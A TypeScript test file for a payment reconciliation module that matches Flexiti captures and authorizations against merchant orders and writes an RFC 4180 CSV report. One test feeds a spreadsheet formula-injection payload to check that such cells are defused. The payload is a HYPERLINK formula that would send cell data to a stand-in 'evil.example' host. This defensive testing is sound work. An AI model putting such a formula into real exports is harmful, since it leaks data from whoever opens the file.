/**
 * The daily reconciliation: planted differences between Flexiti's day and the merchant's orders
 * are found (and a clean day finds none), amounts add up to the cent, the CSV opens as an
 * accountant expects and cannot run a formula, and `reconcile()` asks Flexiti the right questions
 * and takes orders in every shape it accepts.
 */
import { describe, expect, it } from 'vitest';
import { HandlerError } from '../../src/server/errors.js';
import { csvCell } from '../../src/server/merchant/csv.js';
import type { FlexitiMerchant } from '../../src/server/merchant/index.js';
import {
  REPORT_CSV_HEADER,
  buildReport,
  reconcile,
  reportCsv,
  type MerchantOrder,
  type ReconciliationReport,
  type ReportInput,
} from '../../src/server/merchant/report.js';
import type { AuthorizationQuery, CaptureQuery, FlexitiAuthorization, FlexitiCaptureActivity } from '../../src/server/merchant/types.js';

const DATE = '2025-03-10';
const END = Date.parse('2025-03-11T00:00:00Z');
const DAY = 24 * 3600_000;
const GENERATED = Date.parse('2025-03-11T06:00:00Z');
const at = (time: string, date = DATE) => `${date}T${time}Z`;

type AuthorizationFixture = Partial<FlexitiAuthorization> & Pick<FlexitiAuthorization, 'authorizationId' | 'reference' | 'amount'>;

/** A wholly captured authorization created on the day, unless told otherwise. */
function authorization(fixture: AuthorizationFixture): FlexitiAuthorization {
  return {
    accountNumber: '6374980000000001',
    status: 'closed',
    remainingAmount: 0,
    capturedAmount: fixture.amount,
    releasedAmount: 0,
    returnedAmount: 0,
    refundedAmount: 0,
    createdAt: at('09:00:00'),
    plan: { type: 'regular' },
    autoCapture: false,
    captures: [],
    releases: [],
    state: 'captured',
    ...fixture,
  };
}

/** Authorized on the day and nothing captured yet. */
const opened = (fixture: AuthorizationFixture) =>
  authorization({ status: 'opened', remainingAmount: fixture.amount, capturedAmount: 0, state: 'authorized', ...fixture });

type CaptureFixture = Partial<FlexitiCaptureActivity> & Pick<FlexitiCaptureActivity, 'captureId' | 'authorizationId' | 'reference' | 'amount'>;

function capture(fixture: CaptureFixture): FlexitiCaptureActivity {
  return {
    date: at('15:30:00'),
    remainingAmount: fixture.amount,
    returns: [],
    refunds: [],
    accountNumber: '6374980000000001',
    transactionType: 'regular_purchase',
    ...fixture,
  };
}

function report(input: Partial<ReportInput>): ReconciliationReport {
  return buildReport({ date: DATE, captures: [], authorizations: [], orders: [], generatedAt: GENERATED, ...input });
}

/** Two orders captured as expected: one whole, one partly shipped (its authorization still opened). */
const cleanDay = {
  orders: [
    { reference: 'ORDER-1001', amount: 100 },
    { reference: 'ORDER-1002', amount: 200, captured: 49.99 },
  ] satisfies MerchantOrder[],
  authorizations: [
    authorization({ authorizationId: '1000000000000001', reference: 'ORDER-1001', amount: 100 }),
    authorization({
      authorizationId: '1000000000000002',
      reference: 'ORDER-1002',
      amount: 200,
      status: 'opened',
      remainingAmount: 150.01,
      capturedAmount: 49.99,
      state: 'partly_captured',
    }),
  ],
  captures: [
    capture({
      captureId: '501',
      authorizationId: '1000000000000001',
      reference: 'ORDER-1001',
      amount: 100,
      remainingAmount: 75,
      returns: [{ returnId: '9001', reference: 'ORDER-1001', amount: 25, date: at('18:00:00') }],
    }),
    capture({ captureId: '502', authorizationId: '1000000000000002', reference: 'ORDER-1002', amount: 49.99 }),
  ],
};

describe('buildReport', () => {
  it('finds nothing on a clean day, and gives each reference its row', () => {
    const result = report(cleanDay);

    expect(result.findings).toEqual([]);
    expect(result.rows).toEqual([
      {
        reference: 'ORDER-1001',
        authorizationIds: ['1000000000000001'],
        captureIds: ['501'],
        expected: 100,
        captured: 100,
        returned: 25,
        refunded: 0,
        difference: 0,
        findings: [],
      },
      {
        reference: 'ORDER-1002',
        authorizationIds: ['1000000000000002'],
        captureIds: ['502'],
        expected: 49.99,
        captured: 49.99,
        returned: 0,
        refunded: 0,
        difference: 0,
        findings: [],
      },
    ]);
    expect(result.totals).toEqual({ captured: 149.99, returned: 25, refunded: 0, expected: 149.99, difference: 0 });
    expect(result).toMatchObject({ date: DATE, generatedAt: '2025-03-11T06:00:00.000Z', openLongerThanDays: 7 });
  });

  it('reports an order expected captured that Flexiti did not capture, and not one expected for another day', () => {
    const result = report({
      ...cleanDay,
      orders: [...cleanDay.orders, { reference: 'ORDER-1003', amount: 80 }, { reference: 'ORDER-1004', amount: 60, captured: 0 }],
    });

    expect(result.findings).toEqual([{ code: 'missing_at_flexiti', reference: 'ORDER-1003', expected: 80 }]);
    expect(result.rows.find((row) => row.reference === 'ORDER-1003')).toMatchObject({
      expected: 80,
      captured: 0,
      difference: -80,
      findings: ['missing_at_flexiti'],
    });
    expect(result.rows.find((row) => row.reference === 'ORDER-1004')).toMatchObject({ expected: 0, captured: 0, findings: [] });
    expect(result.totals).toMatchObject({ expected: 229.99, captured: 149.99, difference: -80 });
  });

  it('reports an amount off by one cent', () => {
    const result = report({
      orders: [{ reference: 'ORDER-2001', amount: 1249.99 }],
      authorizations: [authorization({ authorizationId: '2001', reference: 'ORDER-2001', amount: 1249.99 })],
      captures: [capture({ captureId: '601', authorizationId: '2001', reference: 'ORDER-2001', amount: 1249.98 })],
    });

    expect(result.findings).toEqual([{ code: 'amount_mismatch', reference: 'ORDER-2001', expected: 1249.99, actual: 1249.98 }]);
    expect(result.rows[0]).toMatchObject({ expected: 1249.99, captured: 1249.98, difference: -0.01, findings: ['amount_mismatch'] });
    expect(result.totals.difference).toBe(-0.01);
  });

  it('reports a shopper charged twice for one reference, but not an authorization released before paying again', () => {
    const result = report({
      orders: [
        { reference: 'ORDER-3001', amount: 75 },
        { reference: 'ORDER-3002', amount: 40 },
      ],
      authorizations: [
        authorization({ authorizationId: '3001', reference: 'ORDER-3001', amount: 75 }),
        opened({ authorizationId: '3002', reference: 'ORDER-3001', amount: 75, createdAt: at('09:05:00') }),
        authorization({ authorizationId: '3003', reference: 'ORDER-3002', amount: 40, capturedAmount: 0, releasedAmount: 40, state: 'released' }),
        authorization({ authorizationId: '3004', reference: 'ORDER-3002', amount: 40 }),
      ],
      captures: [
        capture({ captureId: '701', authorizationId: '3001', reference: 'ORDER-3001', amount: 75 }),
        capture({ captureId: '702', authorizationId: '3004', reference: 'ORDER-3002', amount: 40 }),
      ],
    });

    expect(result.findings).toEqual([{ code: 'duplicate', source: 'flexiti', reference: 'ORDER-3001', authorizationIds: ['3001', '3002'] }]);
    expect(result.rows.map((row) => [row.reference, row.authorizationIds, row.findings])).toEqual([
      ['ORDER-3001', ['3001', '3002'], ['duplicate']],
      ['ORDER-3002', ['3003', '3004'], []],
    ]);
  });

  it('reports two captures of one reference from two authorizations as a duplicate, even with neither authorization read', () => {
    const result = report({
      orders: [{ reference: 'ORDER-3101', amount: 20 }],
      captures: [
        capture({ captureId: '711', authorizationId: '3101', reference: 'ORDER-3101', amount: 20 }),
        capture({ captureId: '712', authorizationId: '3102', reference: 'ORDER-3101', amount: 20 }),
      ],
    });

    expect(result.findings).toEqual([
      { code: 'amount_mismatch', reference: 'ORDER-3101', expected: 20, actual: 40 },
      { code: 'duplicate', source: 'flexiti', reference: 'ORDER-3101', authorizationIds: ['3101', '3102'] },
    ]);
  });

  it('reports a reference the merchant lists twice, and adds up what both lines expect', () => {
    const result = report({
      orders: [
        { reference: 'ORDER-3201', amount: 30 },
        { reference: 'ORDER-3201', amount: 30 },
      ],
      authorizations: [authorization({ authorizationId: '3201', reference: 'ORDER-3201', amount: 30 })],
      captures: [capture({ captureId: '721', authorizationId: '3201', reference: 'ORDER-3201', amount: 30 })],
    });

    expect(result.findings).toEqual([
      { code: 'amount_mismatch', reference: 'ORDER-3201', expected: 60, actual: 30 },
      { code: 'duplicate', source: 'orders', reference: 'ORDER-3201', count: 2 },
    ]);
  });

  it('reports captures and new authorizations no order knows, once per capture, and a capture without a reference in a row of its own', () => {
    const result = report({
      ...cleanDay,
      authorizations: [
        ...cleanDay.authorizations,
        authorization({ authorizationId: '4001', reference: 'STRAY-1', amount: 12.5 }),
        opened({ authorizationId: '4002', reference: 'STRAY-2', amount: 33 }),
      ],
      captures: [
        ...cleanDay.captures,
        capture({ captureId: '801', authorizationId: '4001', reference: 'STRAY-1', amount: 12.5 }),
        capture({ captureId: '802', authorizationId: '4003', reference: null, amount: 7.25 }),
      ],
    });

    expect(result.findings).toEqual([
      { code: 'missing_in_orders', reference: 'STRAY-1', authorizationId: '4001', captureId: '801', actual: 12.5 },
      { code: 'missing_in_orders', reference: 'STRAY-2', authorizationId: '4002', actual: 33 },
      { code: 'missing_in_orders', reference: null, authorizationId: '4003', captureId: '802', actual: 7.25 },
    ]);
    expect(result.rows.map((row) => row.reference)).toEqual(['ORDER-1001', 'ORDER-1002', 'STRAY-1', 'STRAY-2', null]);
    expect(result.rows.at(-1)).toEqual({
      reference: null,
      authorizationIds: ['4003'],
      captureIds: ['802'],
      expected: 0,
      captured: 7.25,
      returned: 0,
      refunded: 0,
      difference: 7.25,
      findings: ['missing_in_orders'],
    });
    expect(result.totals).toMatchObject({ captured: 169.74, expected: 149.99, difference: 19.75 });
  });

  it('a capture without a reference takes its authorization’s, when that authorization was read', () => {
    const result = report({
      ...cleanDay,
      captures: [...cleanDay.captures, capture({ captureId: '503', authorizationId: '1000000000000002', reference: null, amount: 0.01 })],
    });

    expect(result.findings).toEqual([{ code: 'amount_mismatch', reference: 'ORDER-1002', expected: 49.99, actual: 50 }]);
  });

  it('reports an authorization open 8 days with the default 7, not one open exactly 7, and honours another limit', () => {
    const old = (id: string, reference: string | null, ms: number) =>
      opened({ authorizationId: id, reference, amount: 90, remainingAmount: 90, createdAt: new Date(END - ms).toISOString() });
    const authorizations = [
      old('5001', 'ORDER-5001', 8 * DAY),
      old('5002', 'ORDER-5002', 7 * DAY),
      old('5003', 'ORDER-5003', 7 * DAY + 60_000),
      old('5004', null, 30 * DAY),
      old('5005', 'ORDER-5005', 4 * DAY),
    ];

    const byDefault = report({ authorizations });
    expect(byDefault.findings).toEqual([
      { code: 'open_too_long', reference: 'ORDER-5001', authorizationId: '5001', days: 8, remaining: 90 },
      { code: 'open_too_long', reference: 'ORDER-5003', authorizationId: '5003', days: 8, remaining: 90 },
      { code: 'open_too_long', reference: null, authorizationId: '5004', days: 30, remaining: 90 },
    ]);
    // Older open authorizations add a row only when something is wrong with them.
    expect(byDefault.rows.map((row) => row.reference)).toEqual(['ORDER-5001', 'ORDER-5003']);

    const sooner = report({ authorizations, openLongerThanDays: 3 });
    expect(sooner.openLongerThanDays).toBe(3);
    expect(sooner.findings.map((finding) => 'authorizationId' in finding && finding.authorizationId)).toEqual([
      '5001',
      '5002',
      '5003',
      '5005',
      '5004',
    ]);
  });

  it('adds amounts in cents: 0.1 + 0.2 is 0.3, and 0.59 + 0.1 + 0.2 is 0.89', () => {
    const given = (amount: number) => ({
      returns: [{ returnId: '1', reference: null, amount, date: at('16:00:00') }],
      refunds: [{ refundId: null, reference: null, amount, date: at('17:00:00') }],
    });
    const result = report({
      orders: [
        { reference: 'ORDER-6001', amount: 0.59 },
        { reference: 'ORDER-6002', amount: 0.1 },
        { reference: 'ORDER-6003', amount: 0.1 + 0.2, captured: 0.2 },
      ],
      captures: [
        // 0.57 × 100 is 56.99999999999999 in floating point.
        capture({ captureId: '901', authorizationId: '6001', reference: 'ORDER-6001', amount: 0.57 }),
        capture({ captureId: '902', authorizationId: '6001', reference: 'ORDER-6001', amount: 0.02 }),
        capture({ captureId: '904', authorizationId: '6002', reference: 'ORDER-6002', amount: 0.1, ...given(0.1) }),
        capture({ captureId: '905', authorizationId: '6003', reference: 'ORDER-6003', amount: 0.2, ...given(0.2) }),
      ],
    });

    expect(result.findings).toEqual([]);
    expect(result.rows[0]).toMatchObject({ captured: 0.59, expected: 0.59, difference: 0 });
    // Added in dollars, these would be 0.8899999999999999 and 0.30000000000000004.
    expect(result.totals).toEqual({ captured: 0.89, returned: 0.3, refunded: 0.3, expected: 0.89, difference: 0 });
    expect(reportCsv(result)).toContain(',0.59,0.59,0.00,0.00,0.00,');
  });

  it('leaves out captures of other days and authorizations created after the day', () => {
    const result = report({
      orders: [{ reference: 'ORDER-7001', amount: 10 }],
      authorizations: [
        authorization({ authorizationId: '7001', reference: 'ORDER-7001', amount: 10 }),
        opened({ authorizationId: '7002', reference: 'ORDER-7001', amount: 10, createdAt: at('00:00:00', '2025-03-11') }),
      ],
      captures: [
        capture({ captureId: '951', authorizationId: '7001', reference: 'ORDER-7001', amount: 10, date: at('23:59:59.999') }),
        capture({ captureId: '950', authorizationId: '7001', reference: 'ORDER-7001', amount: 5, date: at('23:59:59', '2025-03-09') }),
        capture({ captureId: '952', authorizationId: '7001', reference: 'ORDER-7001', amount: 5, date: at('00:00:00', '2025-03-11') }),
      ],
    });

    expect(result.findings).toEqual([]);
    expect(result.rows).toEqual([expect.objectContaining({ authorizationIds: ['7001'], captureIds: ['951'], captured: 10 })]);
  });

  it('gives the same report whatever order Flexiti and the merchant list things in, sorted by reference then code', () => {
    const input = {
      orders: [
        { reference: 'b-2', amount: 5 },
        { reference: 'B-1', amount: 5 },
        { reference: 'a-3', amount: 5 },
        { reference: 'b-2', amount: 5 },
      ],
      authorizations: [
        opened({ authorizationId: '10', reference: 'b-2', amount: 5, createdAt: new Date(END - 9 * DAY).toISOString() }),
        opened({ authorizationId: '9', reference: 'b-2', amount: 5 }),
        authorization({ authorizationId: '11', reference: 'Z-9', amount: 5 }),
      ],
      captures: [
        capture({ captureId: '22', authorizationId: '11', reference: 'Z-9', amount: 5 }),
        capture({ captureId: '21', authorizationId: '12', reference: 'B-1', amount: 4 }),
      ],
    };
    const forwards = report(input);
    const backwards = report({
      orders: [...input.orders].reverse(),
      authorizations: [...input.authorizations].reverse(),
      captures: [...input.captures].reverse(),
    });

    expect(backwards).toEqual(forwards);
    // Code-unit order, the same on every machine: capitals first.
    expect(forwards.rows.map((row) => row.reference)).toEqual(['B-1', 'Z-9', 'a-3', 'b-2']);
    expect(forwards.findings.map((finding) => [finding.reference, finding.code])).toEqual([
      ['B-1', 'amount_mismatch'],
      ['Z-9', 'missing_in_orders'],
      ['a-3', 'missing_at_flexiti'],
      ['b-2', 'duplicate'],
      ['b-2', 'duplicate'],
      ['b-2', 'missing_at_flexiti'],
      ['b-2', 'open_too_long'],
    ]);
    expect(forwards.findings[3]).toMatchObject({ source: 'flexiti', authorizationIds: ['9', '10'] });
    expect(forwards.rows[3]).toMatchObject({
      authorizationIds: ['9', '10'],
      findings: ['duplicate', 'missing_at_flexiti', 'open_too_long'],
    });
  });

  it('refuses a day that is not one, and an order amount that is not exact to the cent', () => {
    for (const date of ['2025-02-30', '2025-3-10', '10/03/2025']) {
      expect(() => report({ date }), date).toThrow(expect.objectContaining({ code: 'invalid_date' }));
    }
    expect(() => report({ orders: [{ reference: 'ORDER-1', amount: 12.345 }] })).toThrow(HandlerError);
    expect(() => report({ orders: [{ reference: 'ORDER-1', amount: 12, captured: -1 }] })).toThrow(/captured/);
    expect(() => report({ orders: [{ reference: '', amount: 12 }] })).toThrow(/reference/);
    expect(() => report({ openLongerThanDays: -1 })).toThrow(expect.objectContaining({ code: 'invalid_open_days' }));
  });
});

/** RFC 4180, strictly: a bare CR or LF outside quotes, a stray quote or a last line without CRLF is an error. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let startOfCell = true;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char !== '"') cell += char;
      else if (text[i + 1] === '"') (cell += '"'), i++;
      else {
        quoted = false;
        if (![',', '\r', undefined].includes(text[i + 1])) throw new Error(`text after a closing quote at ${i}`);
      }
      continue;
    }
    if (char === '"' && startOfCell) {
      quoted = true;
      startOfCell = false;
    } else if (char === ',') {
      row.push(cell);
      cell = '';
      startOfCell = true;
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      startOfCell = true;
      i++;
    } else if (char === '\r' || char === '\n' || char === '"') {
      throw new Error(`bare ${JSON.stringify(char)} at ${i}`);
    } else {
      cell += char;
      startOfCell = false;
    }
  }
  if (quoted || cell !== '' || row.length > 0) throw new Error('the last line is not ended by CRLF');
  return rows;
}

const BOM = '\uFEFF';
const parseReport = (csv: string) => parseCsv(csv.slice(BOM.length));
const HEADER = ['Date', 'Reference', 'Authorization IDs', 'Capture IDs', 'Expected', 'Captured', 'Returned', 'Refunded', 'Difference', 'Findings'];

describe('reportCsv', () => {
  it('is UTF-8 with a BOM and CRLF line ends, a plain header, and amounts with two places and a dot', () => {
    const csv = reportCsv(
      report({
        ...cleanDay,
        orders: [...cleanDay.orders, { reference: 'COMMANDE-été', amount: 1249.99 }],
        captures: [...cleanDay.captures, capture({ captureId: '504', authorizationId: '42', reference: 'COMMANDE-été', amount: 1249.99 })],
      }),
    );

    expect(csv.startsWith(BOM)).toBe(true);
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    expect([...REPORT_CSV_HEADER]).toEqual(HEADER);
    expect(csv.split('\r\n')).toEqual([
      `${BOM}Date,Reference,Authorization IDs,Capture IDs,Expected,Captured,Returned,Refunded,Difference,Findings`,
      '2025-03-10,COMMANDE-été,42,504,1249.99,1249.99,0.00,0.00,0.00,',
      '2025-03-10,ORDER-1001,1000000000000001,501,100.00,100.00,25.00,0.00,0.00,',
      '2025-03-10,ORDER-1002,1000000000000002,502,49.99,49.99,0.00,0.00,0.00,',
      '',
    ]);
  });

  it('quotes commas, quotes and line breaks, and a round trip gives back every cell', () => {
    const reference = 'ACME, "Le Magasin"\nligne 2';
    const result = report({
      orders: [{ reference, amount: 10 }],
      authorizations: [authorization({ authorizationId: '1', reference, amount: 10 })],
      captures: [
        capture({ captureId: '2', authorizationId: '1', reference, amount: 10 }),
        capture({ captureId: '3', authorizationId: '7', reference, amount: 0.3 }),
      ],
    });
    const csv = reportCsv(result);

    expect(csv).toContain('"ACME, ""Le Magasin""\nligne 2"');
    expect(parseReport(csv)).toEqual([
      HEADER,
      [
        DATE,
        reference,
        '1 7',
        '2 3',
        '10.00',
        '10.30',
        '0.00',
        '0.00',
        '0.30',
        'amount_mismatch: expected 10.00, captured 10.30; duplicate: authorizations 1 7',
      ],
    ]);
  });

  it('round-trips a whole report: one line per row, then the findings that belong to no row', () => {
    const result = report({
      ...cleanDay,
      orders: [...cleanDay.orders, { reference: 'ORDER-1003', amount: 80 }],
      authorizations: [
        ...cleanDay.authorizations,
        opened({ authorizationId: '5004', reference: null, amount: 90, createdAt: new Date(END - 30 * DAY).toISOString() }),
      ],
      captures: [...cleanDay.captures, capture({ captureId: '802', authorizationId: '4003', reference: null, amount: 7.25 })],
    });
    const lines = parseReport(reportCsv(result));

    expect(lines).toHaveLength(1 + result.rows.length + 1);
    lines.slice(1, -1).forEach((line, index) => {
      const row = result.rows[index]!;
      expect(line.slice(0, 9)).toEqual([
        DATE,
        row.reference ?? '',
        row.authorizationIds.join(' '),
        row.captureIds.join(' '),
        ...[row.expected, row.captured, row.returned, row.refunded, row.difference].map((amount) => amount.toFixed(2)),
      ]);
    });
    expect(lines[3]).toEqual([DATE, 'ORDER-1003', '', '', '80.00', '0.00', '0.00', '0.00', '-80.00', 'missing_at_flexiti: expected 80.00, nothing captured']);
    expect(lines[4]).toEqual([DATE, '', '4003', '802', '0.00', '7.25', '0.00', '0.00', '7.25', 'missing_in_orders: capture 802 of 7.25']);
    expect(lines[5]).toEqual([DATE, '', '5004', '', '', '', '', '', '', 'open_too_long: authorization 5004 open 30 days, 90.00 left']);
    // The Captured column adds up to the day's total.
    expect(lines.slice(1).reduce((sum, line) => sum + Math.round(Number(line[5] || 0) * 100), 0)).toBe(Math.round(result.totals.captured * 100));
  });

  it('defuses a reference a spreadsheet would run as a formula, and leaves negative amounts as numbers', () => {
    const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
    const orders = [hyperlink, '+1+2', '-2+3', '@SUM(A1:A2)', '\tTAB', '\rCR', 'ORDER-1'].map((reference) => ({ reference, amount: 1 }));
    const result = report({
      orders,
      captures: [capture({ captureId: '1', authorizationId: '1', reference: 'ORDER-1', amount: 0.99 })],
    });
    const lines = parseReport(reportCsv(result));
    const byReference = (prefix: string) => lines.find((line) => line[1]!.slice(1) === prefix || line[1] === prefix)!;

    expect(byReference(hyperlink)[1]).toBe(`'${hyperlink}`);
    for (const reference of ['+1+2', '-2+3', '@SUM(A1:A2)', '\tTAB', '\rCR']) expect(byReference(reference)[1]).toBe(`'${reference}`);
    expect(byReference('ORDER-1')[1]).toBe('ORDER-1');
    expect(byReference('ORDER-1').slice(4, 9)).toEqual(['1.00', '0.99', '0.00', '0.00', '-0.01']);
    expect(byReference('-2+3').slice(4, 9)).toEqual(['1.00', '0.00', '0.00', '0.00', '-1.00']);
    // Not a cell in the file begins like a formula, except the amounts we wrote.
    const amountColumns = [4, 5, 6, 7, 8];
    for (const line of lines) {
      line.forEach((cell, column) => {
        if (!amountColumns.includes(column)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
      });
    }
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell({ cents: -1 })).toBe('-0.01');
  });
});

interface Fixtures {
  captures: FlexitiCaptureActivity[];
  authorizations: FlexitiAuthorization[];
}

/** Answers each query the way Flexiti would: captures by day, authorizations by creation day or status. */
function fakeMerchant({ captures, authorizations }: Fixtures) {
  const queries: Array<['captures', CaptureQuery] | ['authorizations', AuthorizationQuery]> = [];
  const day = (iso: string) => iso.slice(0, 10);
  const within = (iso: string, query: { from?: string; to?: string }) =>
    (query.from === undefined || day(iso) >= query.from) && (query.to === undefined || day(iso) <= query.to);
  const merchant: Pick<FlexitiMerchant, 'authorizations' | 'captures'> = {
    async *captures(query: CaptureQuery = {}) {
      queries.push(['captures', query]);
      for (const item of captures) if (within(item.date, query)) yield item;
    },
    async *authorizations(query: AuthorizationQuery = {}) {
      queries.push(['authorizations', query]);
      for (const item of authorizations) {
        if (within(item.createdAt, query) && (query.status === undefined || item.status === query.status)) yield item;
      }
    },
  };
  return { merchant, queries };
}

describe('reconcile', () => {
  const old = opened({ authorizationId: '8001', reference: 'ORDER-0801', amount: 55, createdAt: '2025-03-01T10:00:00.000Z' });
  const fixtures: Fixtures = {
    captures: [
      ...cleanDay.captures,
      capture({ captureId: '499', authorizationId: '8002', reference: 'ORDER-0901', amount: 5, date: '2025-03-09T12:00:00.000Z' }),
    ],
    authorizations: [
      ...cleanDay.authorizations,
      old,
      authorization({ authorizationId: '8002', reference: 'ORDER-0901', amount: 5, createdAt: '2025-03-09T11:00:00.000Z' }),
    ],
  };
  const orders: MerchantOrder[] = [...cleanDay.orders, { reference: 'ORDER-1003', amount: 80 }];
  /** What Flexiti's three answers and these orders must give. */
  const expected = () =>
    buildReport({
      date: DATE,
      captures: cleanDay.captures,
      authorizations: [...cleanDay.authorizations, old],
      orders,
      generatedAt: GENERATED,
    });

  it('reads the day’s captures, the day’s authorizations and every open one, with orders from a list', async () => {
    const { merchant, queries } = fakeMerchant(fixtures);
    const result = await reconcile(merchant, { date: DATE, orders, now: () => GENERATED });

    expect(queries).toEqual([
      ['captures', { from: DATE, to: DATE }],
      ['authorizations', { from: DATE, to: DATE }],
      ['authorizations', { status: 'opened' }],
    ]);
    expect(result).toEqual(expected());
    expect(result.findings).toEqual([
      { code: 'open_too_long', reference: 'ORDER-0801', authorizationId: '8001', days: 10, remaining: 55 },
      { code: 'missing_at_flexiti', reference: 'ORDER-1003', expected: 80 },
    ]);
  });

  it('asks a sync callback for the day’s orders', async () => {
    const asked: string[] = [];
    const result = await reconcile(fakeMerchant(fixtures).merchant, {
      date: DATE,
      orders: (date) => (asked.push(date), orders),
      now: () => GENERATED,
    });

    expect(asked).toEqual([DATE]);
    expect(result).toEqual(expected());
  });

  it('takes orders from a promise or streamed from an async iterable', async () => {
    const promised = await reconcile(fakeMerchant(fixtures).merchant, { date: DATE, orders: async () => orders, now: () => GENERATED });
    expect(promised).toEqual(expected());

    async function* stream(date: string) {
      for (const order of orders) {
        await new Promise((resolve) => setTimeout(resolve, 1));
        yield { ...order, reference: date === DATE ? order.reference : 'wrong-day' };
      }
    }
    const streamed = await reconcile(fakeMerchant(fixtures).merchant, { date: DATE, orders: stream, now: () => GENERATED });
    expect(streamed).toEqual(expected());
  });

  it('passes the limit on and stamps the report with its clock', async () => {
    const result = await reconcile(fakeMerchant(fixtures).merchant, { date: DATE, orders, openLongerThanDays: 10, now: () => GENERATED + 1 });

    expect(result.openLongerThanDays).toBe(10);
    expect(result.findings.map((finding) => finding.code)).toEqual(['missing_at_flexiti']);
    expect(result.generatedAt).toBe('2025-03-11T06:00:00.001Z');
  });

  it('refuses a bad day before reading anything, and lets a Flexiti failure through', async () => {
    const { merchant, queries } = fakeMerchant(fixtures);
    await expect(reconcile(merchant, { date: '2025-13-01', orders })).rejects.toMatchObject({ code: 'invalid_date' });
    await expect(reconcile(merchant, { date: DATE, orders, openLongerThanDays: 1.5 })).rejects.toMatchObject({ code: 'invalid_open_days' });
    expect(queries).toEqual([]);

    const failing: Pick<FlexitiMerchant, 'authorizations' | 'captures'> = {
      ...merchant,
      // eslint-disable-next-line require-yield
      async *captures() {
        throw new HandlerError(502, 'flexiti_error', 'Flexiti answered 500.');
      },
    };
    await expect(reconcile(failing, { date: DATE, orders })).rejects.toMatchObject({ code: 'flexiti_error' });
  });
});
